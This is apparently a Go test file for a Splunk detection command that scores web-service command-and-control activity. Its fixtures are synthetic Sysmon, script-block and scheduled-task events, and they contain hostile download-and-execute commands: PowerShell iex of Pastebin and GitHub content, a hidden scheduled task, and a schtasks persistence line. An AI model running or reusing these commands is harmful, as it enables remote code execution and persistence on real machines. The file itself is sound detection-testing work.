package correlate_test

// Script blocks (4104), task creations (4698) and file events (Sysmon 11)
// through the real command, map phase on several indexers.

import (
	"context"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/t1102app/t1102/src/splunkd"
)

var telemetryFields = []string{"_time", "host", "EventCode", "ProcessGuid", "ProcessId", "Image", "OriginalFileName", "CommandLine", "ParentImage", "User",
	"DestinationHostname", "DestinationIp", "QueryName", "QueryResults", "TargetFilename", "ScriptBlockText", "ScriptBlockId", "MessageNumber",
	"MessageTotal", "Path", "ProcessID", "UserID", "TaskName", "TaskContent", "SubjectUserName", "SubjectDomainName"}

// ev is one event of telemetryFields, given as name=value pairs.
func ev(kv ...string) []splunkd.Value {
	row := make([]splunkd.Value, len(telemetryFields))
	for i := 0; i+1 < len(kv); i += 2 {
		for j, f := range telemetryFields {
			if f == kv[i] {
				row[j] = splunkd.Value{kv[i+1]}
			}
		}
	}
	return row
}

const (
	psImage = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	fileRun = `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File C:\Users\Public\sync.ps1`
	psGUID  = "{5d2e7a10-1111-6741-aa01-000000000f20}"
	// The loop a file-run PowerShell implant runs: nothing of it shows on
	// its command line.
	syncLoop = "while ($true) {\r\n    $c = (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/Xk2pQ9vB')\r\n" +
		"    iex $c\r\n    Start-Sleep -Seconds (240 + (Get-Random -Maximum 120))\r\n}"
)

var t0 = time.Date(2026, 11, 23, 8, 0, 0, 0, time.UTC)

func at(d time.Duration) string { return t0.Add(d).Format(time.RFC3339Nano) }

// fileRunEvents: the implant's process creation, then a DNS query and a
// connection to Pastebin every five minutes or so for an hour; with
// blocks, its script block in parts, logged before the first request.
func fileRunEvents(requests int, parts ...string) *splunkd.Table {
	tb := &splunkd.Table{Fields: telemetryFields}
	tb.Rows = append(tb.Rows, ev("_time", at(0), "host", "WKS-030", "EventCode", "1", "ProcessGuid", psGUID, "ProcessId", "4242",
		"Image", psImage, "OriginalFileName", "PowerShell.EXE", "CommandLine", fileRun, "ParentImage", `C:\Windows\explorer.exe`, "User", `CORP\ann`))
	for i, p := range parts {
		tb.Rows = append(tb.Rows, ev("_time", at(time.Duration(i+1)*time.Second), "host", "WKS-030", "EventCode", "4104",
			"ScriptBlockText", p, "ScriptBlockId", "{0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d}", "MessageNumber", fmt.Sprint(i+1),
			"MessageTotal", fmt.Sprint(len(parts)), "Path", `C:\Users\Public\sync.ps1`, "ProcessID", "4242", "UserID", "S-1-5-21-1-2-3-1105"))
	}
	for _, s := range []int{0, 290, 601, 905, 1187, 1502, 1795, 2110, 2398, 2703, 2989, 3300}[:requests] {
		d := time.Duration(10+s) * time.Second
		tb.Rows = append(tb.Rows,
			ev("_time", at(d), "host", "WKS-030", "EventCode", "22", "ProcessGuid", psGUID, "ProcessId", "4242", "Image", psImage,
				"QueryName", "pastebin.com", "QueryResults", "::ffff:104.20.67.143;"),
			ev("_time", at(d+100*time.Millisecond), "host", "WKS-030", "EventCode", "3", "ProcessGuid", psGUID, "ProcessId", "4242",
				"Image", psImage, "DestinationIp", "104.20.67.143"))
	}
	return tb
}

func rowOf(t *testing.T, res *splunkd.Result, field, value string) (map[string]string, bool) {
	t.Helper()
	for i := range res.Table.Rows {
		if first(res.Table.Get(i, field)) == value {
			out := map[string]string{}
			for _, f := range res.Table.Fields {
				out[f] = strings.Join(res.Table.Get(i, f), "\n")
			}
			return out, true
		}
	}
	return nil, false
}

// TestScriptBlocks: a PowerShell run from a .ps1 file has nothing on its
// command line; its script block, in parts spread over indexers, lands on
// its process's row, found by host and ProcessID.
func TestScriptBlocks(t *testing.T) {
	half := len(syncLoop) / 2
	// Its first ten minutes (two requests: no polling yet) and its first
	// hour (twelve: polling).
	for _, reqs := range []int{2, 12} {
		without := run(t, fileRunEvents(reqs), 3, "all=true")
		w, ok := rowOf(t, without, "ProcessGuid", psGUID)
		require.True(t, ok, "the implant has a row: %v", without.Table.Canonical())
		for _, n := range []int{1, 3, 5} {
			with := run(t, fileRunEvents(reqs, syncLoop[:half], syncLoop[half:]), n, "all=true")
			r, ok := rowOf(t, with, "ProcessGuid", psGUID)
			require.True(t, ok)
			require.Len(t, with.Table.Rows, 1, "%d indexers: the blocks join the process's row, no row of their own", n)
			require.Equal(t, "100", r["risk_score"], "%d indexers: %s", n, r["t1102_reasons"])
			require.Contains(t, r["t1102_reasons"], "runs what it fetches", "the two parts were joined in order: DownloadString in one, iex in the other")
			require.Contains(t, r["t1102_reasons"], `script block (C:\Users\Public\sync.ps1): "`)
			require.Contains(t, r["t1102_seen_in"], "ScriptBlockText")
			require.Equal(t, `C:\Users\Public\sync.ps1`, r["t1102_script_path"])
			require.Equal(t, "4242", r["process_id"])
		}
		risk, err := strconv.Atoi(w["risk_score"])
		require.NoError(t, err)
		require.Less(t, risk, 100)
		t.Logf("file-run PowerShell, %2d requests to Pastebin: risk %d without its script block, 100 with it (without: %s)", reqs, risk, strings.ReplaceAll(w["t1102_reasons"], "\n", "; "))
	}

	// A block whose process no Sysmon event showed: a row for the host and
	// the user, by the block's process id.
	orphan := &splunkd.Table{Fields: telemetryFields, Rows: [][]splunkd.Value{
		ev("_time", at(0), "host", "WKS-031", "EventCode", "4104", "ScriptBlockText", syncLoop, "ScriptBlockId", "{99999999-4e5f-4a6b-8c7d-9e0f1a2b3c4d}",
			"MessageNumber", "1", "MessageTotal", "1", "ProcessID", "777", "UserID", "S-1-5-21-1-2-3-1106"),
	}}
	res := run(t, orphan, 2)
	r, ok := rowOf(t, res, "host", "WKS-031")
	require.True(t, ok, "%v", res.Table.Canonical())
	require.Empty(t, r["ProcessGuid"], "no ProcessGuid is made up")
	require.Equal(t, "777", r["process_id"])
	require.Equal(t, "S-1-5-21-1-2-3-1106", r["user"])
	require.Equal(t, "pastebin", r["is_legit_webservice"])

	// A later process that reuses the id does not take an earlier block.
	reuse := fileRunEvents(12, syncLoop)
	reuse.Rows = append(reuse.Rows, ev("_time", at(2*time.Hour), "host", "WKS-030", "EventCode", "1", "ProcessGuid", "{5d2e7a10-2222-6741-aa01-000000000f20}",
		"ProcessId", "4242", "Image", psImage, "CommandLine", "powershell.exe -NoProfile -Command Get-Date", "User", `CORP\ann`))
	res = run(t, reuse, 3, "all=true")
	r, ok = rowOf(t, res, "ProcessGuid", psGUID)
	require.True(t, ok)
	require.Equal(t, "100", r["risk_score"], "the block went to the process of its id that had started before it")
}

// TestFileEvents: Sysmon 11 adds its evidence without disturbing the join:
// the same rows, the same risk or more.
func TestFileEvents(t *testing.T) {
	base := &splunkd.Table{Fields: telemetryFields}
	g := "{5d2e7a10-3333-6741-aa01-000000000f20}"
	base.Rows = append(base.Rows,
		ev("_time", at(0), "host", "WKS-032", "EventCode", "1", "ProcessGuid", g, "ProcessId", "900", "Image", `C:\Windows\System32\curl.exe`,
			"OriginalFileName", "curl.exe", "CommandLine", `curl.exe -s -o tg.json https://api.telegram.org/bot1:x/getUpdates`, "User", `CORP\bob`),
		ev("_time", at(time.Second), "host", "WKS-032", "EventCode", "22", "ProcessGuid", g, "ProcessId", "900", "Image", `C:\Windows\System32\curl.exe`,
			"QueryName", "api.telegram.org", "QueryResults", "::ffff:149.154.167.220;"))
	before := run(t, base, 3, "all=true")
	withFile := &splunkd.Table{Fields: telemetryFields, Rows: append(append([][]splunkd.Value{}, base.Rows...),
		ev("_time", at(2*time.Second), "host", "WKS-032", "EventCode", "11", "ProcessGuid", g, "ProcessId", "900", "Image", `C:\Windows\System32\curl.exe`,
			"TargetFilename", `C:\Users\bob\AppData\Local\Temp\tg.json`),
		ev("_time", at(3*time.Second), "host", "WKS-032", "EventCode", "11", "ProcessGuid", "{5d2e7a10-4444-6741-aa01-000000000f20}", "ProcessId", "901",
			"Image", psImage, "TargetFilename", `C:\Users\bob\AppData\Local\Temp\__PSScriptPolicyTest_abcd1234.xyz.ps1`))}
	after := run(t, withFile, 3, "all=true")
	require.Len(t, after.Table.Rows, len(before.Table.Rows), "file events add no rows: %v", after.Table.Canonical())
	b, _ := rowOf(t, before, "ProcessGuid", g)
	a, ok := rowOf(t, after, "ProcessGuid", g)
	require.True(t, ok)
	ra, _ := strconv.Atoi(a["risk_score"])
	rb, _ := strconv.Atoi(b["risk_score"])
	require.Greater(t, ra, rb, "the response file in %%TEMP%% adds its evidence: %s", a["t1102_reasons"])
	require.Equal(t, `C:\Users\bob\AppData\Local\Temp\tg.json`, a["t1102_file"])
	require.Contains(t, a["t1102_seen_in"], "FileCreate")
	t.Logf("curl on Telegram: risk %s without its file event, %s with it", b["risk_score"], a["risk_score"])
}

// taskContent is a task definition as 4698 carries it, once decoded.
func taskContent(uri, interval, command, args string) string {
	return `<?xml version="1.0" encoding="UTF-16"?>` + "\r\n" + `<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">` +
		`<RegistrationInfo><Author>CORP\eve</Author><URI>` + uri + `</URI></RegistrationInfo>` +
		`<Triggers><TimeTrigger><Repetition><Interval>` + interval + `</Interval></Repetition><StartBoundary>2026-11-23T09:00:00</StartBoundary></TimeTrigger></Triggers>` +
		`<Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals><Settings><Hidden>true</Hidden></Settings>` +
		`<Actions Context="Author"><Exec><Command>` + command + `</Command><Arguments>` + args + `</Arguments></Exec></Actions></Task>`
}

// TestTaskCreation: a task created to run iex(iwr raw GitHub) every hour
// is raised at its creation, with its author, before it ever runs; its
// runs, a new process each, become the task's row under the creation's
// identity.
func TestTaskCreation(t *testing.T) {
	args := `-NoProfile -WindowStyle Hidden -Command "iex(iwr https://raw.githubusercontent.com/eve/cfg/main/u.ps1 -UseBasicParsing)"`
	created := ev("_time", at(0), "host", "WKS-033", "EventCode", "4698", "TaskName", `\Microsoft\Windows\Maintenance\Sync`,
		"TaskContent", taskContent(`\Microsoft\Windows\Maintenance\Sync`, "PT1H", "powershell.exe", strings.ReplaceAll(args, `"`, "&quot;")),
		"SubjectUserName", "eve", "SubjectDomainName", "CORP")
	res := run(t, &splunkd.Table{Fields: telemetryFields, Rows: [][]splunkd.Value{created}}, 2)
	r, ok := rowOf(t, res, "t1102_task", `\Microsoft\Windows\Maintenance\Sync`)
	require.True(t, ok, "raised at creation: %v", res.Table.Canonical())
	require.Equal(t, `CORP\eve`, r["t1102_task_author"])
	require.Equal(t, "1", r["is_polling"], "the repetition is declared polling")
	require.Equal(t, "TaskContent", r["t1102_seen_in"])
	require.Equal(t, "github", r["is_legit_webservice"])
	require.Contains(t, r["t1102_reasons"], `scheduled task \Microsoft\Windows\Maintenance\Sync created by CORP\eve`)
	creationID := r["t1102_identity"]
	t.Logf("task creation raised with risk %s: %s", r["risk_score"], strings.ReplaceAll(r["t1102_reasons"], "\n", "; "))

	// Creation and three hourly runs: one row, the task's.
	tb := &splunkd.Table{Fields: telemetryFields, Rows: [][]splunkd.Value{created}}
	for i := 1; i <= 3; i++ {
		g := fmt.Sprintf("{5d2e7a10-55%02d-6741-aa01-000000000f20}", i)
		d := time.Duration(i) * time.Hour
		tb.Rows = append(tb.Rows,
			ev("_time", at(d), "host", "WKS-033", "EventCode", "1", "ProcessGuid", g, "ProcessId", fmt.Sprint(3000+i), "Image", psImage,
				"OriginalFileName", "PowerShell.EXE", "CommandLine", "powershell.exe "+args, "ParentImage", `C:\Windows\System32\svchost.exe`, "User", `NT AUTHORITY\SYSTEM`),
			ev("_time", at(d+time.Second), "host", "WKS-033", "EventCode", "22", "ProcessGuid", g, "ProcessId", fmt.Sprint(3000+i), "Image", psImage,
				"QueryName", "raw.githubusercontent.com", "QueryResults", "::ffff:185.199.108.133;"))
	}
	res = run(t, tb, 3)
	require.Len(t, res.Table.Rows, 1, "the runs are the task: %v", res.Table.Canonical())
	r, _ = rowOf(t, res, "host", "WKS-033")
	require.Equal(t, `\Microsoft\Windows\Maintenance\Sync`, r["t1102_task"])
	require.Equal(t, "3", r["process_instances"])
	require.Equal(t, creationID, r["t1102_identity"], "the runs alert under the creation's identity: throttled as one")

	// schtasks.exe /create on a Sysmon process creation declares the same.
	sch := &splunkd.Table{Fields: telemetryFields, Rows: [][]splunkd.Value{
		ev("_time", at(0), "host", "WKS-034", "EventCode", "1", "ProcessGuid", "{5d2e7a10-6666-6741-aa01-000000000f20}", "ProcessId", "5000",
			"Image", `C:\Windows\System32\schtasks.exe`, "OriginalFileName", "schtasks.exe",
			"CommandLine", `schtasks.exe /create /tn Sync /sc minute /mo 30 /tr "powershell -w hidden -c iex(iwr https://pastebin.com/raw/abc)"`, "User", `CORP\eve`),
	}}
	res = run(t, sch, 1)
	r, ok = rowOf(t, res, "host", "WKS-034")
	require.True(t, ok, "%v", res.Table.Canonical())
	require.Equal(t, "1", r["is_polling"])
	require.Contains(t, r["t1102_reasons"], "declared polling: task Sync repeats every 30 min")
}

// TestBadTaskContent: a definition that cannot be read is a warning, and
// the rest is judged.
func TestBadTaskContent(t *testing.T) {
	tb := fileRunEvents(12, syncLoop)
	tb.Rows = append(tb.Rows, ev("_time", at(0), "host", "WKS-030", "EventCode", "4698", "TaskName", `\x`, "TaskContent", "<Task><Actions>"))
	res, err := splunkd.Run(context.Background(), splunkd.Search{Argv: argv, Input: tb, Collect: true, Indexers: 2, ChunkRows: 500})
	require.NoError(t, err)
	warned := false
	for _, m := range res.Messages {
		warned = warned || strings.Contains(m.Text, "task definitions (4698 TaskContent) could not be read")
	}
	require.True(t, warned, "%v", res.Messages)
	_, ok := rowOf(t, res, "ProcessGuid", psGUID)
	require.True(t, ok)
}
